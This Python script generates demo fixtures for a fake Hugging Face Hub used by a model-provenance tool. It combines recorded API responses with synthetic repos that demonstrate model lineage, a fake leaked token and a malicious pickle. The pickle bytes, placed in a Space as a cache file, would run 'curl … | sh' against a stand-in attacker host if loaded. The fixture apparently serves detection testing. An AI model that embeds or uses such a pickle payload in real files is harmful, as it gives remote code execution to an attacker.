#!/usr/bin/env python3
"""Writes fakehub/src/main/resources/dev/aiprov/fakehub/demo-hub.json, the recorded responses the fake Hub
serves for `aiprov demo` (FakeHub.demo()). google-bert/bert-base-uncased and sentence-transformers/paraphrase-albert-small-v2
are the Hub's real recorded API responses (shared/hf-samples, from huggingface_hub's test cassettes);
the demo-org repos are synthetic, written in the same shapes, to show every lineage form, a gated
base model, a training dataset, a Space, a leaked (fake, random) token and a malicious pickle.
Nothing here is loaded or executed; the pickle bytes are written literally."""
import base64, hashlib, json, os, random, sys

here = os.path.dirname(os.path.abspath(__file__))
shared = os.path.join(here, "..", "..", "shared", "hf-samples")
out = os.path.join(here, "..", "fakehub", "src", "main", "resources", "dev", "aiprov", "fakehub", "demo-hub.json")

def sample(name):
    with open(os.path.join(shared, name)) as f:
        return json.load(f)["body"]

def sha(seed):
    return hashlib.sha1(seed.encode()).hexdigest()

def commits(repo, n=2):
    return [{"id": sha(repo + str(i)), "title": t, "message": "", "authors": [{"user": repo.split("/")[0]}],
             "date": d} for i, (t, d) in enumerate([("Update model card", "2025-06-02T10:00:00.000Z"),
                                                   ("Initial commit", "2025-05-01T09:00:00.000Z")][:n])]

def text(path, body, lfs=False):
    return {"path": path, "oid": sha(path + body), "text": body, "lfs": lfs}

def binary(path, data, lfs=True):
    return {"path": path, "oid": sha(path) , "base64": base64.b64encode(data).decode(), "lfs": lfs}

def info(kind, id_, sha_, tags, card=None, extra=None):
    d = {"_id": hashlib.md5(id_.encode()).hexdigest()[:24], "id": id_, "private": False, "author": id_.split("/")[0],
         "sha": sha_, "lastModified": "2025-06-02T10:00:00.000Z", "createdAt": "2025-05-01T09:00:00.000Z",
         "gated": False, "disabled": False, "downloads": 1234, "likes": 5, "tags": tags}
    if card is not None: d["cardData"] = card
    if extra: d.update(extra)
    return d

rnd = random.Random(20261127)
fake_token = "hf_" + "".join(rnd.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(34))
# protocol-0 pickle that would call os.system('curl …|sh') if loaded: GLOBAL os system, MARK, STRING, TUPLE, REDUCE, STOP
evil = b"cos\nsystem\n(S'curl -s http://attacker.invalid/x | sh'\ntR."
# a tiny benign safetensors file: 8-byte header length, JSON header, 16 bytes of F32 data
hdr = json.dumps({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}).encode()
safet = len(hdr).to_bytes(8, "little") + hdr + bytes(16)

bert = sample("api_models_id__google-bert_bert-base-uncased.json")
albert = sample("api_models_id__sentence-transformers_paraphrase-albert-small-v2.json")
repos = [
    {"type": "model", "info": bert, "commits": commits(bert["id"]),
     "files": [text("config.json", json.dumps({"architectures": ["BertForMaskedLM"], "model_type": "bert"})),
               text("README.md", "---\nlicense: apache-2.0\ndatasets:\n- bookcorpus\n- wikipedia\n---\n# BERT base model (uncased)\n"),
               binary("model.safetensors", safet)]},
    {"type": "model", "info": albert, "commits": commits(albert["id"]),
     "files": [text("config.json", json.dumps({"architectures": ["AlbertModel"]}))]},
    {"type": "model", "info": info("model", "meta-llama/Llama-3.1-8B-Instruct", sha("llama"), ["transformers", "license:llama3.1"],
                                   {"license": "llama3.1"}, {"gated": "manual"}),
     "commits": commits("meta-llama/Llama-3.1-8B-Instruct"), "files": [text("config.json", "{}")]},
    {"type": "model", "info": info("model", "demo-org/bert-support-classifier", sha("cls"),
                                   ["transformers", "dataset:demo-org/support-tickets", "base_model:google-bert/bert-base-uncased",
                                    "base_model:finetune:google-bert/bert-base-uncased", "license:apache-2.0"],
                                   {"base_model": "google-bert/bert-base-uncased", "datasets": ["demo-org/support-tickets"],
                                    "license": "apache-2.0"}),
     "commits": commits("demo-org/bert-support-classifier"),
     "files": [text("config.json", json.dumps({"architectures": ["BertForSequenceClassification"]})),
               text("README.md", "---\nbase_model: google-bert/bert-base-uncased\ndatasets: [demo-org/support-tickets]\n---\n"
                                 "# Support classifier\n\nPush with `HF_TOKEN=" + fake_token + " python push.py`\n"),
               binary("model.safetensors", safet)]},
    {"type": "model", "info": info("model", "demo-org/bert-support-lora", sha("lora"),
                                   ["peft", "license:apache-2.0"], {"license": "apache-2.0"}),
     "commits": commits("demo-org/bert-support-lora"),
     "files": [text("adapter_config.json", json.dumps({"base_model_name_or_path": "demo-org/bert-support-classifier",
                                                       "peft_type": "LORA", "r": 8})),
               binary("adapter_model.safetensors", safet)]},
    {"type": "model", "info": info("model", "demo-org/support-merge", sha("merge"),
                                   ["transformers", "merge"], {"base_model": ["demo-org/bert-support-classifier",
                                                                              "sentence-transformers/paraphrase-albert-small-v2"]}),
     "commits": commits("demo-org/support-merge"), "files": [text("config.json", "{}")]},
    {"type": "model", "info": info("model", "demo-org/support-gguf", sha("gguf"),
                                   ["gguf", "base_model:demo-org/support-merge", "base_model:quantized:demo-org/support-merge"]),
     "commits": commits("demo-org/support-gguf"), "files": [text("README.md", "# GGUF build\n")]},
    {"type": "model", "info": info("model", "demo-org/llama-support-adapter", sha("llama-adapter"),
                                   ["peft"], {"base_model": "meta-llama/Llama-3.1-8B-Instruct", "base_model_relation": "adapter"}),
     "commits": commits("demo-org/llama-support-adapter"), "files": [text("README.md", "# adapter\n")]},
    {"type": "dataset", "info": info("dataset", "demo-org/support-tickets", sha("ds"), ["license:cc-by-4.0"], {"license": "cc-by-4.0"}),
     "commits": commits("demo-org/support-tickets"), "files": [text("README.md", "# Support tickets\n")]},
    {"type": "space", "info": info("space", "demo-org/support-bot", sha("space"), ["gradio"], None,
                                   {"sdk": "gradio", "models": ["demo-org/bert-support-lora", "demo-org/support-gguf",
                                                               "demo-org/llama-support-adapter"],
                                    "datasets": ["demo-org/support-tickets"]}),
     "commits": commits("demo-org/support-bot"),
     "files": [text("app.py", "import gradio as gr\nimport os\ntoken = os.environ['HF_TOKEN']\n"),
               binary("examples/cache.pkl", evil, lfs=False)]},
]
for r in repos:   # the newest commit is the head the info reports
    r["commits"][0]["id"] = r["info"]["sha"]
with open(out, "w") as f:
    json.dump({"_source": __doc__, "repos": repos}, f, indent=1)
print("wrote", out, os.path.getsize(out), "bytes")
